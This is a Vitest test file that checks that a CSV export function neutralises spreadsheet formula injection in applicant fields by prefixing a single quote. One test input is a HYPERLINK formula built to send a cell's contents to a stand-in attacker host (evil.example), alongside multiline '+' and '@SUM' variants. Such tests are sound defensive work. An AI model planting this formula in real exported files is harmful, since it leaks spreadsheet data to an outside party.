// @vitest-environment node
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { ReceivedApplication } from '../../../shared/schemas/received-application';
import { toCsv } from '../../../widget/receiver/export-format';
import { sampleApplication } from './support/application';

const received = (over: Parameters<typeof sampleApplication>[0]): ReceivedApplication => ({
  id: '1',
  cursor: '1-1',
  receivedAt: '2026-03-01T10:00:00.000Z',
  briefId: null,
  score: null,
  claimedScore: null,
  fits: [],
  application: sampleApplication(over),
});

describe('toCsv', () => {
  it('defuses a formula that continues on the next line of the cell', () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Click\nme")';
    const csv = toCsv([received({ name: formula, pitch: '+1\r\n+2', niches: ['@SUM(1)\nx'] })]);
    const [, row] = Papa.parse<string[]>(csv.trim(), { newline: '\r\n' }).data;
    const cell = (field: string) => row![csv.split('\r\n')[0]!.split(',').indexOf(field)];
    expect(cell('name')).toBe(`'${formula}`);
    expect(cell('pitch')).toBe(`'+1\r\n+2`);
    expect(cell('niches')).toBe(`'@SUM(1)\nx`);
  });
});
